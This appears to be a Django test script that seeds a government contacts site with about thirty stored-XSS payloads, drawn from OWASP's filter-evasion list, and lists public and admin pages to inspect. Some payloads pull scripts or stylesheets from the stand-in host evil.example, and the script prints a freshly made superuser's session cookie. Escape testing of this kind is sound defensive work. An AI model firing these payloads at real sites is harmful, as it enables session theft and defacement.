"""Texts that become scripts where a page lets them, put into every field that an editor fills."""

import json
import sys
from typing import Any, Final

from django.apps import apps
from django.contrib import admin
from django.contrib.auth import get_user_model
from django.db import models
from django.test import Client
from django.urls import reverse
from django.utils import timezone, translation

from contacts.enums import Language
from contacts.models import (
    Channel,
    Claim,
    Feedback,
    Guide,
    Holiday,
    LinkCheck,
    Page,
    SearchQuery,
    Step,
    Synonym,
    Topic,
)

# After OWASP's list of filter evasion: elements, attributes, URLs, templates, comments, Markdown.
PAYLOADS: Final = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</script><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    "<svg><script>alert&#40;1)</script></svg>",
    '" onfocus="alert(1)" autofocus="',
    "' onmouseover='alert(1)' x='",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<iframe src=javascript:alert(1)>",
    "<object data=javascript:alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<math><mtext><style><img src onerror=alert(1)>",
    "<form action=javascript:alert(1)><button autofocus>x",
    "[x](javascript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "![x](//evil.example/x.png)",
    "<javascript:alert(1)>",
    "{{7*7}}${alert(1)}{% debug %}",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "<!--<img src='--><img src=x onerror=alert(1)>",
    "]]><script>alert(1)</script><![CDATA[",
)
NAME = "an-editor"
NEVER_DELETED = {LinkCheck, SearchQuery}  # at the desk


def fill(row: Any, payload: str) -> None:
    """The payload in all columns of both languages, in all their length."""
    for field in row._meta.fields:
        if field.name.endswith(("_ar", "_en")) and isinstance(
            field, models.CharField | models.TextField
        ):
            setattr(row, field.name, payload)
    row.status = "published"
    row.save()


def fill_all() -> None:
    """A row of each kind for each payload, published; checks of forms are passed by on purpose."""
    today = timezone.localdate()
    for number, payload in enumerate(PAYLOADS):
        topic, channel = Topic(slug=f"x{number}"), Channel(slug=f"x{number}", kind="website")
        fill(topic, payload)
        fill(channel, payload)
        channel.endpoints.create(
            kind="url", value="https://www.ca.gov.sa/", label_ar=payload, label_en=payload
        )
        guide = Guide(slug=f"x{number}", topic=topic, channel=channel, featured=number < 6)
        fill(guide, payload)
        fill(Step(guide=guide, uid=f"x{number}"), payload)
        fill(Page(slug=f"x{number}"), payload)
        fill(Holiday(first_day=today, last_day=today, confirmed=True), payload)
        claimed = {"kind": "x", "value": f"x{number}", "verdict": "fake"}
        fill(Claim(**claimed), payload)
        Synonym.objects.create(
            language="ar", term=f"{number} {payload}"[:80], equivalents=[payload]
        )
        Feedback.objects.create(guide=guide, language="ar", helpful=False, comment=payload)
        SearchQuery.objects.create(
            day=today, language="ar", query=payload, results=0, count=1_000 + number
        )


def public_paths() -> list[str]:
    found = []
    for language in Language.values:
        with translation.override(language):
            lists = ("home", "questions", "others", "offline", "verify", "search")
            found += [reverse(f"contacts:{name}") for name in lists]
            for kind in ("channel", "topic", "guide", "page"):
                slugs = [f"x{number}" for number in range(len(PAYLOADS))]
                paths = [reverse(f"contacts:{kind}", args=[slug]) for slug in slugs]
                found += paths
                for name in ("report", "report-thanks"):
                    found += [
                        reverse(f"contacts:{name}", query={"page": path}) for path in paths[:3]
                    ]
    return found


def desk_paths() -> list[str]:
    """The first page, every list, and forms and histories with payloads in them."""
    found = [reverse("admin:index")]
    for model in apps.get_app_config("contacts").get_models():
        base = f"admin:contacts_{model._meta.model_name}"
        if not admin.site.is_registered(model):
            continue
        found.append(reverse(f"{base}_changelist"))
        rows = model._default_manager.order_by("-pk")[: len(PAYLOADS)]
        found += [reverse(f"{base}_change", args=[row.pk]) for row in rows]
        pages = ["history"] if model in NEVER_DELETED else ["history", "delete"]
        found += [reverse(f"{base}_{page}", args=[row.pk]) for row in rows[:2] for page in pages]
    guides = Guide.objects.order_by("-pk")[: len(PAYLOADS)]
    return found + [reverse("preview", args=["ar", "guide", guide.pk]) for guide in guides]


def prepare() -> None:
    """Fill the site, and print where to look and the session of somebody signed in."""
    fill_all()
    client = Client()
    client.force_login(get_user_model().objects.create_superuser(NAME, password="x"))
    found = {
        "public": public_paths(),
        "desk": desk_paths(),
        "payloads": PAYLOADS,
        "session": client.cookies["sessionid"].value,
    }
    sys.stdout.write(f"\n{json.dumps(found)}\n")
